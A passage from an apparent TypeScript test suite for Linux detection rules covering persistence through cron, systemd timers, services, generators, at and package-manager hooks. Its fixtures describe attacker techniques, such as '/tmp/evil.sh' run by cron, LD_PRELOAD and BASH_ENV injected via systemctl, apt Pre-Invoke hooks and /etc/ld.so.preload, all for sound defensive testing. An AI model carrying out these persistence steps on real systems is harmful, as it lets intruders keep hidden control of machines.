  const inSession = (event: object, leader: string) => {
    const { process } = event as { process: object };
    return { ...event, process: { ...process, session_leader: { entity_id: leader } } };
  };
  const job = exec('/usr/bin/dash', ['/bin/sh', '-c', 'keeper'], '/usr/sbin/cron');
  const client = exec('/usr/bin/crontab', ['crontab', '-']);
  expect(firing(inSession(job, 'one'), inSession(client, 'one'))).toContain('crontab-run-by-job');
  expect(firing(inSession(job, 'one'), inSession(client, 'two'))).not.toContain('crontab-run-by-job');
});

describe('cron-job-world-writable', () => {
  const launched = (command: string, parent: string) =>
    firing(exec('/usr/bin/dash', ['/bin/sh', '-c', command], parent)).includes('cron-job-world-writable');

  it('sees jobs that use a place where everybody may write', () => {
    expect(launched('/tmp/evil.sh', '/usr/sbin/cron')).toBe(true);
    expect(launched('sh /var/tmp/x', '/usr/sbin/crond')).toBe(true);
    expect(launched('. /dev/shm/x', '/usr/sbin/anacron')).toBe(true);
  });

  it('leaves other jobs, and what others run there', () => {
    expect(launched('cd / && run-parts --report /etc/cron.hourly', '/usr/sbin/cron')).toBe(false);
    expect(launched('/tmp/build.sh', '/usr/bin/bash')).toBe(false);
  });
});

describe.each(['system-timer-created', 'timer-unit-changed'])('%s', (slug) => {
  const fires = onFile(slug);

  it.each([
    'creation /etc/systemd/system/x.timer',
    'creation /etc/systemd/user/x.timer',
    'creation /etc/systemd/system/x@.timer',
    'rename /usr/lib/systemd/system/x.timer by /usr/bin/mv',
    'creation /lib/systemd/system/x.timer',
    'creation /usr/local/lib/systemd/system/x.timer',
    'creation /run/systemd/system/x.timer',
    'creation /run/systemd/user/x.timer',
    'creation /etc/systemd/system.control/x.timer.d/50-OnCalendar.conf by /usr/lib/systemd/systemd',
    'creation /run/systemd/system.control/x.timer.d/50-OnCalendar.conf by /usr/lib/systemd/systemd',
    'creation /etc/systemd/system/apt-daily.timer.d/override.conf',
    'rename /etc/systemd/system/apt-daily.timer.d/override.conf by /usr/bin/systemctl',
    // For all timers, and for those whose names begin alike.
    'creation /etc/systemd/system/timer.d/10-all.conf',
    'creation /run/systemd/system/apt-.timer.d/10-all.conf',
    'creation /etc/systemd/system.attached/x.timer',
    // Managers of users look here as well.
    'creation /usr/share/systemd/user/x.timer',
    'creation /usr/local/share/systemd/user/x.timer.d/y.conf',
    'creation /etc/xdg/systemd/user/x.timer',
    // Where another's package manager or agent would have its program, if it were here.
    'creation /etc/systemd/system/x.timer by /usr/bin/pacman',
    'creation /etc/systemd/system/x.timer by /usr/bin/rpm',
    'creation /etc/systemd/system/x.timer by /usr/lib/snapd/snapd',
    'creation /etc/systemd/system/x.timer by /opt/puppetlabs/puppet/bin/ruby',
    'creation /etc/systemd/system/x.timer by /usr/libexec/platform-python3.6',
    'creation /etc/systemd/system/x.timer by /tmp/dpkg',
  ])('sees %s', (text) => expect(fires(text)).toBe(true));

  it.each([
    'creation /etc/systemd/system/x.service',
    'creation /etc/systemd/system/mytimer.d/x.conf',
    'creation /srv/etc/systemd/system/x.timer',
    'creation /etc/systemd/system/timers.target.wants/x.timer by /usr/lib/systemd/systemd',
    'creation /etc/systemd/system/x.target.requires/x.timer by /usr/lib/systemd/systemd',
    'creation /var/lib/systemd/timers/stamp-x.timer by /usr/lib/systemd/systemd',
    'creation /run/systemd/transient/x.timer by /usr/lib/systemd/systemd',
    'creation /lib/systemd/system/x.timer by /usr/bin/dpkg',
    'creation /home/alice/.config/systemd/user/x.timer',
  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
});

describe.each(['user-timer-created', 'user-timer-changed'])('%s', (slug) => {
  const fires = onFile(slug);

  it.each([
    'creation /home/alice/.config/systemd/user/x.timer',
    'creation /root/.config/systemd/user/x.timer',
    'creation /var/www/.local/share/systemd/user/x.timer',
    'rename /home/alice/.config/systemd/user/x.timer by /usr/bin/mv',
    'creation /home/alice/.config/systemd/user/x.timer.d/y.conf',
    'creation /home/alice/.config/systemd/user.control/x.timer.d/y.conf by /usr/lib/systemd/systemd',
    'creation /run/user/1000/systemd/user/x.timer',
    'creation /home/alice/.config/systemd/user/timer.d/y.conf',
    // The name of a home directory is nobody's link.
    'creation /home/a.wants/.config/systemd/user/x.timer',
  ])('sees %s', (text) => expect(fires(text)).toBe(true));

  it.each([
    'creation /home/alice/.config/systemd/user/x.service',
    'creation /home/alice/.config/systemd/user/timers.target.wants/x.timer by /usr/lib/systemd/systemd',
    'creation /run/user/1000/systemd/transient/x.timer by /usr/lib/systemd/systemd',
    'creation /etc/systemd/user/x.timer',
  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
});

it('only EQL sees a timer that is changed in place', () => {
  expect(firing(file('modification /etc/systemd/system/x.timer'))).toEqual(['timer-unit-changed']);
  expect(firing(file('modification /lib/systemd/system/fstrim.timer'))).toEqual(['timer-unit-changed']);
  expect(firing(file('modification /root/.config/systemd/user/x.timer'))).toEqual(['user-timer-changed']);
});

describe('timer-enabled', () => {
  it.each([
    'creation /etc/systemd/system/timers.target.wants/x.timer by /usr/lib/systemd/systemd',
    'creation /home/alice/.config/systemd/user/timers.target.wants/x.timer by /usr/lib/systemd/systemd',
    'creation /run/systemd/system/timers.target.wants/x.timer by /usr/bin/ln',
    'creation /etc/systemd/system/multi-user.target.wants/x.timer by /usr/bin/ln',
    'rename /etc/systemd/system/ssh.service.requires/x.timer by /usr/bin/mv',
    'creation /usr/share/systemd/user/timers.target.wants/x.timer by /usr/bin/ln',
  ])('sees %s', (text) => expect(firing(file(text))).toEqual(['timer-enabled']));

  it.each([
    'creation /etc/systemd/system/multi-user.target.wants/x.service by /usr/lib/systemd/systemd',
    'creation /run/systemd/generator/timers.target.wants/x.timer by /usr/lib/systemd/system-generators/x',
    'deletion /etc/systemd/system/timers.target.wants/x.timer by /usr/lib/systemd/systemd',
    // A package that is being built.
    'creation /srv/build/usr/lib/systemd/system/timers.target.wants/x.timer by /usr/bin/ln',
  ])('leaves %s', (text) =>
    expect(firing(file(text, { parent: { executable: '/usr/lib/systemd/systemd', pid: 105 } }))).toEqual([]),
  );

  it('leaves to its own rule what a generator of a user writes', () =>
    expect(
      firing(
        file('creation /run/user/1000/systemd/generator.late/timers.target.wants/x.timer by /usr/bin/ln'),
      ),
    ).toEqual(['generator-output-forged']));

  it('leaves what is in the session of a dpkg, and sees who only looks like a script of a package', () => {
    const link = (by: string, leader?: string) => {
      const event = file(`creation /etc/systemd/system/timers.target.wants/x.timer by ${by}`);
      const { process } = event as { process: object };
      return firing({
        ...event,
        process: { ...process, ...(leader && { session_leader: { executable: leader } }) },
      });
    };
    expect(link('/usr/bin/systemctl', '/usr/bin/dpkg')).toEqual([]);
    expect(link('/usr/bin/dpkg', '/usr/bin/dpkg')).toEqual([]);
    // Helpers of packages can be run by anybody, and their command lines be taken by other programs.
    for (const by of ['/usr/bin/perl', '/usr/bin/ln', '/usr/bin/dpkg', '/usr/bin/rpm'])
      expect(link(by, '/usr/bin/bash')).toEqual(['timer-enabled']);
    expect(link('/usr/bin/perl')).toEqual(['timer-enabled']);
    expect(link('/usr/bin/ln', '/tmp/dpkg')).toEqual(['timer-enabled']);
  });

  it('leaves what the manager makes of a timer that dpkg has just put there, on that machine and for no longer', () => {
    const fires = ({
      by = '/usr/bin/dpkg',
      unit = '/lib/systemd/system/x.timer',
      minute = 1,
      host = 'one',
    } = {}) => {
      const put = file(`rename ${unit} by ${by}`);
      const link = file('creation /etc/systemd/system/timers.target.wants/x.timer by /lib/systemd/systemd');
      return firing(
        { ...put, '@timestamp': '2026-11-29T03:00:00Z', host: { id: 'one', os: { type: 'linux' } } },
        {
          ...{ ...link, '@timestamp': `2026-11-29T03:${String(minute).padStart(2, '0')}:00Z` },
          host: { id: host, os: { type: 'linux' } },
        },
      ).includes('timer-enabled');
    };
    expect(fires()).toBe(false);
    expect(fires({ by: '/usr/bin/mv' })).toBe(true);
    expect(fires({ unit: '/usr/lib/systemd/system/x.timer' })).toBe(false);
    // What a package has brought lets off no other timer, and no unit of one's own.
    expect(fires({ unit: '/lib/systemd/system/y.timer' })).toBe(true);
    expect(fires({ unit: '/lib/systemd/system/x.service' })).toBe(true);
    expect(fires({ unit: '/etc/systemd/system/x.timer' })).toBe(true);
    expect(fires({ minute: 16 })).toBe(true);
    expect(fires({ host: 'another' })).toBe(true);
  });
});

describe('rules about what stands beside timers', () => {
  it.each([
    ['service-dropin-written', 'creation /etc/systemd/system/cron.service.d/x.conf'],
    ['service-dropin-written', 'rename /run/systemd/system.control/nginx.service.d/50-x.conf by /usr/bin/mv'],
    ['service-dropin-written', 'creation /etc/systemd/system/service.d/10-all.conf'],
    ['service-dropin-written', 'creation /home/alice/.config/systemd/user/app.service.d/x.conf'],
    ['systemd-generator-written', 'creation /etc/systemd/system-generators/x'],
    ['systemd-generator-written', 'rename /run/systemd/user-generators/x by /usr/bin/install'],
    ['systemd-generator-written', 'creation /usr/local/lib/systemd/system-environment-generators/x'],
    ['linger-enabled', 'creation /var/lib/systemd/linger/bob by /usr/lib/systemd/systemd-logind'],
    ['linger-enabled', 'creation /var/lib/systemd/linger/bob by /usr/bin/touch'],
    ['at-access-changed', 'creation /etc/at.allow'],
    ['at-access-changed', 'rename /etc/at.deny by /usr/bin/sed'],
  ])('%s sees %s', (slug, text) => expect(onFile(slug)(text)).toBe(true));

  it.each([
    'creation /etc/systemd/system/cron.service.d/x.conf by /usr/bin/dpkg',
    'creation /etc/systemd/system/cron.service.d/.x.conf.swp by /usr/bin/vim.basic',
    'creation /usr/lib/systemd/system-generators/systemd-x by /usr/bin/dpkg',
    'creation /var/lib/systemd/timers/stamp-x.timer by /usr/lib/systemd/systemd',
    'creation /etc/at.deny by /usr/bin/dpkg',
    // A package that is being built.
    'creation /srv/build/usr/lib/systemd/system/cron.service.d/x.conf',
    'creation /srv/build/usr/lib/systemd/system-generators/x',
    // What Python keeps of a generator that it has loaded.
    'rename /usr/lib/systemd/system-generators/__pycache__/x.cpython-311.pyc by /usr/bin/python3.11',
    'creation /home/alice/etc/at.allow',
  ])('none of them fires on %s', (text) => expect(firing(file(text))).toEqual([]));
});

describe('unit-folder-placed', () => {
  const placed = (text: string, type: string) => firing(file(text, { of: { type } }));

  it.each([
    ['rename /etc/systemd/system/cron.timer.d by /usr/bin/mv', 'dir'],
    ['creation /etc/systemd/system/service.d by /usr/bin/ln', 'symlink'],
    ['rename /etc/systemd/system/timers.target.wants by /usr/bin/mv', 'dir'],
    ['creation /etc/systemd/user by /usr/bin/ln', 'symlink'],
    ['rename /home/alice/.config/systemd by /usr/bin/mv', 'dir'],
    ['creation /home/alice/.local/share/systemd/user by /usr/bin/ln', 'symlink'],
    ['rename /run/systemd/system-generators by /usr/bin/mv', 'dir'],
    ['creation /etc/systemd/system/timer.d by /usr/bin/ln', 'symlink'],
    ['rename /usr/lib/systemd/system by /usr/bin/mv', 'dir'],
    ['rename /run/user/1000/systemd/user/x.timer.d by /usr/bin/mv', 'symlink'],
    ['mount /etc/systemd/system by /usr/bin/mount', 'dir'],
    ['creation /etc/systemd/user by /usr/bin/pacman', 'symlink'],
    ['creation /usr/local/share/systemd/user by /usr/bin/ln', 'symlink'],
    ['creation /usr/share/systemd/user/timers.target.wants by /usr/bin/ln', 'symlink'],
    ['rename /etc/systemd by /usr/bin/mv', 'dir'],
    ['rename /home/alice/.config by /usr/bin/mv', 'dir'],
    ['creation /home/alice/.local/share by /usr/bin/ln', 'symlink'],
  ])('sees %s (%s)', (text, type) => expect(placed(text, type)).toEqual(['unit-folder-placed']));

  it('sees a folder that is moved away or exchanged, by its other name', () => {
    const moved = file('rename /var/lib/x by /usr/bin/mv', {
      from: '/usr/local/lib/systemd/system',
      of: { type: 'dir' },
    });
    expect(firing(moved)).toEqual(['unit-folder-placed']);
  });

  it.each([
    // A folder that is made is empty: what is put into it is seen by others.
    ['creation /etc/systemd/system/cron.timer.d by /usr/bin/mkdir', 'dir'],
    ['rename /etc/systemd/system/cron.service.d by /usr/bin/dpkg', 'dir'],
    ['rename /srv/app/systemd by /usr/bin/mv', 'dir'],
    ['rename /srv/build/usr/lib/systemd/system/x.timer.d by /usr/bin/mv', 'dir'],
    ['creation /etc/systemd/system/dbus-org.freedesktop.login1.service by /usr/bin/ln', 'symlink'],
  ])('leaves %s (%s)', (text, type) => expect(placed(text, type)).not.toContain('unit-folder-placed'));
});

describe('root-file-written-by-user', () => {
  const written = (path: string, of: object, user = '1000', action = 'modification') =>
    firing(file(`${action} ${path}`, { of: { type: 'file', uid: '0', mode: '0777', ...of }, user }));
  const seen = ['root-file-written-by-user'];

  it('sees another user change a file of root that everybody may write', () => {
    expect(written('/opt/nightly/run.sh', {})).toEqual(seen);
    expect(written('/usr/local/bin/backup', { mode: '0666' }, '33')).toEqual(seen);
    expect(written('/srv/x', { mode: '2752' })).toEqual(seen);
  });

  it.each([
    ['/opt/nightly/run.sh', {}, '0'],
    ['/opt/nightly/run.sh', { uid: '1000' }, '1000'],
    ['/opt/nightly/run.sh', { mode: '0775' }, '1000'],
    ['/opt/nightly', { type: 'dir' }, '1000'],
    ['/tmp/shared', {}, '1000'],
    ['/var/log/app.log', { mode: '0666' }, '1000'],
  ])('leaves %s %o by user %s', (path, of, user) => expect(written(path, of, user)).toEqual([]));
});

describe('service-unit-changed', () => {
  const fires = onFile('service-unit-changed');

  it.each([
    'creation /etc/systemd/system/x.service',
    'modification /usr/lib/systemd/system/apt-daily.service',
    'rename /run/systemd/system/x@.service by /usr/bin/mv',
    'creation /home/alice/.config/systemd/user/x.service',
    'modification /run/user/1000/systemd/user/x.service',
    'creation /etc/systemd/system/x.service by /usr/bin/rpm',
    'modification /usr/lib/systemd/system/user@.service.d/10-login-barrier.conf',
    'creation /etc/systemd/system/service.d/10-all.conf',
    'modification /home/alice/.config/systemd/user/x.service.d/y.conf',
    'creation /usr/share/systemd/user/x.service',
  ])('sees %s', (text) => expect(fires(text)).toBe(true));

  it.each([
    'creation /usr/lib/systemd/system/x.service by /usr/bin/dpkg',
    'creation /etc/systemd/system/multi-user.target.wants/x.service by /usr/lib/systemd/systemd',
    'creation /run/systemd/transient/x.service by /usr/lib/systemd/systemd',
    'creation /srv/app/systemd/system/x.service',
    'creation /etc/systemd/system/myservice.d/x.conf',
    'creation /etc/systemd/system/.x.service.swp by /usr/bin/vim.basic',
    'deletion /etc/systemd/system/x.service by /usr/bin/rm',
  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
});

describe('generator-output-forged', () => {
  /** The manager starts generators by a process of its own. */
  const generators = { executable: '/usr/lib/systemd/systemd', pid: 105 };
  const fires = (text: string, args?: readonly string[], parent: object = generators) => {
    const event = file(text) as { process: object };
    const told = args && { args, args_count: args.length, command_line: args.join(' ') };
    return firing({ ...event, process: { ...event.process, ...told, parent } }).includes(
      'generator-output-forged',
    );
  };
  const folders = ['/run/systemd/generator', '/run/systemd/generator.early', '/run/systemd/generator.late'];
  const script = '/usr/lib/systemd/system-generators/x';

  it('sees units of anybody among those of generators', () => {
    expect(fires('creation /run/systemd/generator/x.timer')).toBe(true);
    expect(fires('rename /run/systemd/generator.late/timers.target.wants/x.timer by /usr/bin/mv')).toBe(true);
    expect(fires('modification /run/user/1000/systemd/generator/x.service')).toBe(true);
    expect(fires('creation /run/systemd/generator/x.timer by /etc/systemd/system-generators/x')).toBe(true);
    // A script elsewhere, one argument that reads like several, another program with a script's arguments.
    expect(fires('creation /run/systemd/generator/x.timer', ['/bin/sh', '/tmp/x', ...folders])).toBe(true);
    expect(
      fires('creation /run/systemd/generator/x.timer', ['/bin/sh', '-c', `x ${script}`, ...folders]),
    ).toBe(true);
    expect(fires('creation /run/systemd/generator/x.timer', [`/bin/sh ${script} ${folders.join(' ')}`])).toBe(
      true,
    );
    expect(fires('creation /run/systemd/generator/x.timer by /tmp/sh', ['/bin/sh', script, ...folders])).toBe(
      true,
    );
    const beside = `${script}/../../../../../tmp/x`;
    expect(fires('creation /run/systemd/generator/x.timer', ['/bin/sh', beside, ...folders])).toBe(true);
  });

  it('sees a generator of the distribution that somebody else starts, who says what it reads', () => {
    const written = `creation /run/systemd/generator/x.service by ${script}`;
    expect(fires(written, undefined, { executable: '/usr/bin/dash', pid: 105 })).toBe(true);
    expect(fires(written, undefined, { executable: '/usr/lib/systemd/systemd', pid: 1 })).toBe(true);
  });

  it('leaves generators of the distribution, programs and scripts', () => {
    expect(fires(`creation /run/systemd/generator/getty.target.wants/x.service by ${script}`)).toBe(false);
    expect(fires('creation /run/systemd/generator/x.timer', ['/bin/sh', script, ...folders])).toBe(false);
    const python = 'creation /run/systemd/generator/x.timer by /usr/bin/python3.11';
    expect(fires(python, ['/usr/bin/python3', script, ...folders])).toBe(false);
    expect(fires('creation /run/systemd/generator by /usr/lib/systemd/systemd')).toBe(false);
    const apart = '/lib/systemd/system-generators/x';
    const manager = { executable: '/lib/systemd/systemd', pid: 105 };
    expect(fires(`creation /run/systemd/generator/x.service by ${apart}`, undefined, manager)).toBe(false);
    const shell = 'creation /run/systemd/generator/x.service by /bin/dash';
    expect(fires(shell, ['/bin/sh', apart, ...folders], manager)).toBe(false);
  });
});

describe('what schedulers take from elsewhere', () => {
  const ofFile = (type: string, target_path: string) => ({ of: { type, target_path } });

  it.each([
    ['scheduler-environment-changed', 'modification /etc/environment'],
    ['scheduler-environment-changed', 'rename /etc/pam.d/cron by /usr/bin/sed'],
    ['scheduler-environment-changed', 'modification /etc/pam.d/common-session-noninteractive'],
    ['scheduler-environment-changed', 'creation /etc/default/cron by /usr/bin/tee'],
    ['scheduler-environment-changed', 'creation /etc/ld.so.preload'],
    ['scheduler-environment-changed', 'creation /home/alice/.config/environment.d/x.conf'],
    ['package-source-changed', 'creation /etc/apt/sources.list.d/x.list'],
    ['package-source-changed', 'creation /etc/apt/apt.conf.d/99hooks by /usr/bin/tee'],
    ['package-source-changed', 'creation /var/cache/apt/archives/x_1_all.deb by /usr/bin/cp'],
    ['timer-dependency-added', 'creation /etc/systemd/system/x.service.wants/y.mount by /usr/bin/ln'],
    ['timer-dependency-added', 'rename /etc/systemd/system/timers.target.wants/rc-local.service'],
    ['timer-dependency-added', 'creation /run/systemd/generator/x.service.requires/y.mount'],
    ['unit-folder-placed', 'rename /usr/local/lib by /usr/bin/mv'],
    ['cron-table-changed', 'mount /etc/crontab by /usr/bin/mount'],
  ])('%s sees %s', (slug, text) =>
    expect(
      firing(file(text, { of: { type: text.startsWith('rename /usr/local') ? 'dir' : 'file' } })),
    ).toContain(slug),
  );

  it.each([
    'modification /etc/environment by /usr/bin/dpkg',
    'modification /srv/image/etc/environment',
    'creation /etc/pam.d/sshd',
    'rename /var/cache/apt/archives/x_1_all.deb by /usr/bin/apt-get',
    'creation /var/cache/apt/archives/lock by /usr/bin/touch',
    'creation /etc/systemd/system/multi-user.target.wants/x.service by /usr/lib/systemd/systemd',
    'creation /srv/etc/apt/sources.list',
  ])('nothing sees %s', (text) => expect(firing(file(text))).toEqual([]));

  it('schedule-hard-linked sees a second name of a table, a job or a unit, and no symbolic link', () => {
    for (const target of [
      '/etc/crontab',
      '/etc/cron.daily/x',
      '/var/spool/cron/atjobs/a00001',
      '/usr/lib/systemd/system/x.service',
      '/home/alice/.config/systemd/user/x.timer',
    ]) {
      expect(firing(file('creation /var/lib/x by /usr/bin/ln', ofFile('file', target)))).toEqual([
        'schedule-hard-linked',
      ]);
      expect(firing(file('creation /var/lib/x by /usr/bin/ln', ofFile('symlink', target)))).toEqual([]);
    }
    const own = file(
      'creation /var/spool/cron/atjobs/=00001 by /usr/sbin/atd',
      ofFile('file', '/var/spool/cron/atjobs/a00001'),
    );
    expect(firing(own)).toEqual([]);
  });

  it('package-source-changed sees a hook on the command line of apt, and leaves plain options', () => {
    const run = (...args: string[]) => firing(exec('/usr/bin/apt-get', ['apt-get', ...args]));
    const seen = ['package-source-changed'];
    expect(run('-o', 'APT::Update::Pre-Invoke::=x', 'update')).toEqual(seen);
    expect(run('-oDPkg::Pre-Install-Pkgs::=x', 'install', 'y')).toEqual(seen);
    expect(run('-o', 'dpkg::options::=--post-invoke=x', 'install', 'y')).toEqual(seen);
    expect(run('--option=Dir::Bin::dpkg=/tmp/x', 'install', 'y')).toEqual(seen);
    expect(run('-c=/tmp/apt.conf', 'update')).toEqual(seen);
    expect(run('-y', '-o', 'Dpkg::Options::=--force-confold', 'install', 'y')).toEqual([]);
    expect(run('-o', 'Dir::Etc::sourcelist=/srv/sources.list', 'update')).toEqual([]);
  });

  it('manager-started-by-hand sees who starts a manager, or with what', () => {
    const run = (parent: object, ...args: string[]) => runOf('/usr/lib/systemd/systemd', parent, args);
    const runOf = (manager: string, parent: object, args: string[]) => {
      const event = exec(manager, args) as { process: object };
      return firing({ ...event, process: { ...event.process, parent } });
    };
    const first = { executable: '/usr/lib/systemd/systemd', pid: 1 };
    const seen = ['manager-started-by-hand'];
    expect(run({ executable: '/usr/bin/bash', pid: 50 }, '/lib/systemd/systemd', '--user')).toEqual(seen);
    expect(run(first, '/lib/systemd/systemd', '--user', '--unit=x.timer')).toEqual(seen);
    expect(run(first, '/lib/systemd/systemd', '--user')).toEqual([]);
    expect(run(first, '/usr/lib/systemd/systemd', '--user', '--deserialize', '14')).toEqual([]);
    const apart = '/lib/systemd/systemd';
    expect(runOf(apart, { executable: apart, pid: 1 }, [apart, '--user'])).toEqual([]);
    expect(run({ executable: '/usr/bin/bash', pid: 50 }, '/lib/systemd/systemd', '--version')).toEqual([]);
  });
});

describe('what is changed in place', () => {
  it.each([
    ['manager-folder-made', 'creation /var/lib/um/run/systemd/inaccessible/reg by /usr/lib/systemd/systemd'],
    ['manager-folder-made', 'creation /home/alice/.run/systemd/inaccessible/reg by /home/alice/dbusd'],
    ['manager-folder-made', 'creation /run/um/systemd/inaccessible/reg by /usr/lib/systemd/systemd'],
    ['generator-changed', 'modification /usr/lib/systemd/system-generators/systemd-getty-generator'],
    ['generator-changed', 'creation /etc/systemd/user-environment-generators/x by /usr/bin/rpm'],
    ['at-list-changed', 'modification /etc/at.allow by /usr/bin/tee'],
    ['at-list-changed', 'deletion /etc/at.deny by /usr/bin/rm'],
    ['at-program-replaced', 'modification /usr/sbin/atd'],
    ['at-program-replaced', 'rename /usr/bin/at by /usr/bin/mv'],
    ['manager-configuration-changed', 'modification /etc/systemd/system.conf by /usr/bin/sed'],
    ['manager-configuration-changed', 'creation /etc/systemd/system.conf.d/x.conf'],
    ['manager-configuration-changed', 'rename /run/systemd/user.conf.d by /usr/bin/mv'],
    ['manager-configuration-changed', 'creation /usr/local/lib/systemd/user.conf.d/10-x.conf'],
    ['manager-configuration-changed', 'creation /home/alice/.config/systemd/user.conf'],
  ])('%s sees %s', (slug, text) => expect(onFile(slug)(text)).toBe(true));

  it.each([
    'modification /usr/lib/systemd/system-generators/x by /usr/bin/dpkg',
    'creation /usr/lib/systemd/system-generators/__pycache__/x.pyc by /usr/bin/python3.11',
    'creation /srv/build/usr/lib/systemd/system-generators/x',
    'rename /etc/at.deny by /usr/bin/dpkg',
    'modification /etc/at.allowed',
    'rename /usr/sbin/atd by /usr/bin/dpkg',
    'creation /usr/sbin/atop by /usr/bin/cp',
    'rename /etc/systemd/system.conf by /usr/bin/dpkg',
    'modification /etc/systemd/journald.conf',
    'creation /etc/systemd/system.configuration',
    'creation /srv/build/etc/systemd/system.conf.d/x.conf',
    'creation /run/user/1000/systemd/inaccessible/reg by /usr/lib/systemd/systemd',
    'creation /run/systemd/inaccessible/reg by /usr/lib/systemd/systemd',
  ])('none fires on %s', (text) => expect(firing(file(text))).toEqual([]));

  it('generator-changed leaves a folder among generators, in which none is looked for', () => {
    const made = 'creation /usr/lib/systemd/system-generators/__pycache__ by /usr/bin/python3.11';
    expect(firing(file(made, { of: { type: 'dir' } }))).toEqual([]);
    expect(firing(file(made, { of: { type: 'file' } }))).toContain('generator-changed');
  });
});

describe('at-folder-replaced', () => {
  const fires = onFile('at-folder-replaced');

  it('sees the spool linked, renamed, moved away and mounted over', () => {
    expect(fires('rename /var/spool/cron/atjobs by /usr/bin/mv')).toBe(true);
    expect(fires('rename /var/spool/at by /usr/bin/mv')).toBe(true);
    expect(fires('mount /var/spool/atd by /usr/bin/mount')).toBe(true);
    const link = file('creation /var/spool/atjobs by /usr/bin/ln', { of: { target_path: '/tmp/x' } });
    expect(firing(link)).toContain('at-folder-replaced');
    const away = file('rename /tmp/x by /usr/bin/mv', { from: '/var/spool/cron/atjobs' });
    expect(firing(away)).toEqual(['at-folder-replaced']);
  });

  it('leaves a spool that is made, and what is in it', () => {
    expect(fires('creation /var/spool/cron/atjobs by /usr/bin/mkdir')).toBe(false);
    expect(fires('rename /var/spool/cron/atjobs/a0000101c8918f by /usr/bin/mv')).toBe(false);
    expect(fires('rename /srv/var/spool/cron/atjobs by /usr/bin/mv')).toBe(false);
  });
});

describe('what the package manager is let off for', () => {
  const inSession = (event: object, leader: string) => {
    const { process } = event as { process: object };
    return { ...event, process: { ...process, session_leader: { entity_id: leader } } };
  };
  const brought = (
    args: readonly string[],
    parent: string,
    path = '/usr/lib/systemd/system/x.timer.dpkg-new',
  ) =>
    firing(
      inSession(exec('/usr/bin/dpkg', ['dpkg', ...args], parent), 'one'),
      inSession(file(`creation ${path} by /usr/bin/dpkg`), 'one'),
    ).includes('unit-from-local-package');
  const archive = '/var/cache/apt/archives/x_1.0_all.deb';

  it('is seen where the package is no repository’s, or a hook the caller’s', () => {
    expect(brought(['--unpack', '/tmp/x.deb'], '/usr/bin/dash')).toBe(true);
    expect(brought(['-i', '/tmp/x'], '/usr/bin/python3.11', '/etc/at.allow')).toBe(true);
    expect(brought(['--unpack', '/tmp/x.deb'], '/usr/bin/apt-get')).toBe(true);
    expect(brought(['--post-invoke=ln -s x', '--unpack', archive], '/usr/bin/apt')).toBe(true);
    expect(brought(['--unpack', archive], '/usr/bin/apt-get')).toBe(false);
    expect(brought(['--unpack', '/tmp/x.deb'], '/usr/bin/dash', '/usr/share/doc/x/x.timer')).toBe(false);
  });

  it('is nobody else’s: its program is watched', () => {
    for (const text of [
      'rename /usr/bin/dpkg by /usr/bin/mv',
      'modification /usr/bin/dpkg',
      'creation /bin/apt-get by /usr/bin/cp',
      'creation /etc/dpkg/dpkg.cfg.d/hook',
      'modification /etc/dpkg/dpkg.cfg',
    ])
      expect(firing(file(text))).toEqual(['package-manager-replaced']);
    expect(firing(file('rename /usr/bin/dpkg by /usr/bin/dpkg'))).toEqual([]);
    expect(firing(file('creation /usr/bin/dpkg-query by /usr/bin/cp'))).toEqual([]);
    expect(firing(file('rename /etc/dpkg/dpkg.cfg.d/x by /usr/bin/dpkg'))).toEqual([]);
  });
});

describe('manager-environment-set', () => {
  const sees = onRun('manager-environment-set', '/usr/bin/systemctl');

  it.each([
    [['systemctl', 'set-environment', 'BASH_ENV=/var/tmp/x']],
    [['systemctl', '--user', 'set-environment', 'LANG=C', 'LD_PRELOAD=/var/tmp/x.so']],
    [['systemctl', '--user', 'import-environment', 'PERL5OPT']],
    [['x', 'set-environment', 'PATH=/var/tmp/bin:/usr/bin']],
    [['busctl', 'call', 'o', '/o', 'o.Manager', 'SetEnvironment', 'as', '1', 'ENV=/var/tmp/x']],
    [['gdbus', 'call', '--method', 'o.Manager.UnsetAndSetEnvironment', '[]', "['PYTHONPATH=/var/tmp']"]],
    [['dbus-update-activation-environment', '--systemd', 'NODE_OPTIONS=-r /var/tmp/x']],
  ])('sees %j', (args) => expect(sees(...args)).toBe(true));

  it.each([
    [
      [
        'systemctl',
        'set-environment',
        'LANG=C.UTF-8',
        'MY_ENV=x',
        'OLD_LD_PRELOAD=x',
        'GOPATH=/home/alice/go',
      ],
    ],
    [['systemctl', '--user', 'import-environment', 'DISPLAY', 'PATH']],
    [['systemctl', 'show-environment']],
    [['systemctl', 'unset-environment', 'BASH_ENV']],
    [['env', 'BASH_ENV=/x', 'bash', 'x']],
    [['dbus-update-activation-environment', '--systemd', '--all']],
  ])('leaves %j', (args) => expect(sees(...args)).toBe(false));
});

describe('job-program-changed', () => {
  interface Run {
    parent?: string;
    line?: string;
    leads?: boolean;
    path?: string;
  }
  const script = '/opt/nightly';
  const wrote = (text = `modification ${script}`, user = '0') => ({ ...file(text, { user }), host: machine });
  const machine = { id: 'one', os: { type: 'linux' } };
  /** @param leads whether the parent leads the session */
  const ran = ({
    parent = '/usr/bin/dash',
    line = '/bin/sh -c /opt/nightly',
    leads = true,
    path = script,
  }: Run) => ({
    '@timestamp': '2026-01-01T00:10:00Z',
    host: machine,
    event: { category: ['process'], type: ['start'], action: 'exec' },
    process: {
      entity_id: 'two',
      executable: '/usr/bin/dash',
      name: 'dash',
      args: ['/bin/sh', path],
      args_count: 2,
      command_line: `/bin/sh ${path}`,
      parent: {
        executable: parent,
        name: 'x',
        pid: 40,
        command_line: line,
        args_count: line.split(' ').length,
      },
      session_leader: { pid: leads ? 40 : 7 },
    },
    atomclock: { filename: path },
  });
  const sees = (...events: object[]) => firing(...events).includes('job-program-changed');

  it.each<[string, Run]>([
    ['a job’s shell', {}],
    ['cron itself', { parent: '/usr/sbin/cron', line: '/usr/sbin/cron -f', leads: false }],
    ['run-parts', { parent: '/usr/bin/run-parts', line: 'run-parts /etc/cron.daily', leads: false }],
    ['run-parts in /bin', { parent: '/bin/run-parts', line: 'run-parts /etc/cron.daily', leads: false }],
    ['anacron', { parent: '/usr/sbin/anacron', line: 'anacron -s', leads: false }],
  ])('sees what was written and is executed by %s', (_, run) => expect(sees(wrote(), ran(run))).toBe(true));

  it('sees it put in the place of the program of a package’s service', () => {
    const path = '/usr/libexec/dpkg/dpkg-db-backup';
    const run = ran({ path, parent: '/usr/lib/systemd/systemd', line: '/sbin/init', leads: false });
    expect(sees(wrote(`rename ${path} by /usr/bin/mv`), run)).toBe(true);
